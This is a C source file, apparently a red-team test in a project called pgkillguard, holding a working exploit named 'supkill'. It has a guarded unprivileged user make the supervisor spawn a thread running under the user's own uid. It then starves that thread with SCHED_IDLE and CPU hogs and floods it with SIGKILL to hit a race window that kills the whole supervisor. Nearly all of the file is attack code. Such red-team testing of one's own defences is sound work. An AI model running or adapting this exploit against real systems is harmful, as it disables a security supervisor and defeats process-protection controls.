/*
 * r2.c - red-team review r2 attacker programs (issue 9).
 *   gcc -O2 -o r2 tests/attack/r2.c -lpthread
 *
 *   r2 supkill SUP SECONDS
 *     Any guarded user (not the cluster owner) kills its supervisor (uid
 *     pgkillguard, a process it may not signal).  A pidfd_send_signal to
 *     itself makes the supervisor start an acting thread with our real and
 *     effective uid; we find it in /proc/SUP/task (Uid line), make it
 *     SCHED_IDLE on a CPU full of our hogs (setscheduler/affinity only
 *     compare uid/euid), and kill(TID, SIGKILL) it in a loop.  While the
 *     thread is registered the supervisor refuses; after
 *     pgkg_actas_unregister() and before the thread exits, quick_pass()
 *     answers CONTINUE (comm is not a server) and the kernel checks
 *     the THREAD's credentials: SIGKILL takes the whole supervisor.
 *     Prints "supkill: supervisor dead after N kills (TID)" or "held".
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static pid_t sup;
static atomic_int stop;

static void pin(pid_t tid, int cpu)
{
	cpu_set_t s;
	CPU_ZERO(&s);
	CPU_SET(cpu, &s);
	sched_setaffinity(tid, sizeof(s), &s);
}

static void *hog(void *p)
{
	pin(0, 0);
	while (!atomic_load(&stop))
		;
	return NULL;
}

static void *gen(void *p)
{
	int fd = (int)syscall(SYS_pidfd_open, getpid(), 0);
	pin(0, 1);
	while (!atomic_load(&stop))
		syscall(SYS_pidfd_send_signal, fd, SIGURG, NULL, 0);
	return NULL;
}

static int uid_of(pid_t tid)
{
	char p[64], line[256];
	int uid = -1;
	snprintf(p, sizeof(p), "/proc/%d/task/%d/status", (int)sup, (int)tid);
	FILE *f = fopen(p, "r");
	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f))
		if (!strncmp(line, "Uid:", 4)) {
			uid = atoi(line + 5);
			break;
		}
	fclose(f);
	return uid;
}

static int supkill(int secs)
{
	pthread_t h[2], g;
	time_t end = time(NULL) + secs;
	long kills = 0;
	char p[64];
	struct sched_param sp = {0};

	signal(SIGURG, SIG_IGN);
	for (int i = 0; i < 2; i++)
		pthread_create(&h[i], NULL, hog, NULL);
	pthread_create(&g, NULL, gen, NULL);
	pin(0, 1);
	snprintf(p, sizeof(p), "/proc/%d/task", (int)sup);
	while (time(NULL) < end) {
		DIR *d = opendir(p);
		struct dirent *e;
		if (!d) {
			printf("supkill: supervisor dead after %ld kills\n", kills);
			atomic_store(&stop, 1);
			return 0;
		}
		while ((e = readdir(d))) {
			pid_t tid = atoi(e->d_name);
			if (tid <= 0 || tid == sup || uid_of(tid) != (int)getuid())
				continue;
			pin(tid, 0);
			sched_setscheduler(tid, SCHED_IDLE, &sp);
			for (int i = 0; i < 2000; i++) {
				long r = syscall(SYS_kill, tid, SIGKILL);
				kills++;
				if (r == 0) {
					usleep(200000);
					printf("supkill: kill(%d, SIGKILL) answered 0 after %ld kills; "
					       "supervisor %s\n", (int)tid, kills,
					       kill(sup, 0) < 0 && errno == ESRCH ? "DEAD" : "alive");
					atomic_store(&stop, 1);
					return 0;
				}
				if (errno == ESRCH)
					break;
			}
		}
		closedir(d);
	}
	atomic_store(&stop, 1);
	printf("supkill: held (%ld kills refused)\n", kills);
	return 1;
}

int main(int argc, char **argv)
{
	if (argc == 4 && !strcmp(argv[1], "supkill")) {
		sup = atoi(argv[2]);
		return supkill(atoi(argv[3]));
	}
	fprintf(stderr, "usage: r2 supkill SUP SECONDS\n");
	return 2;
}
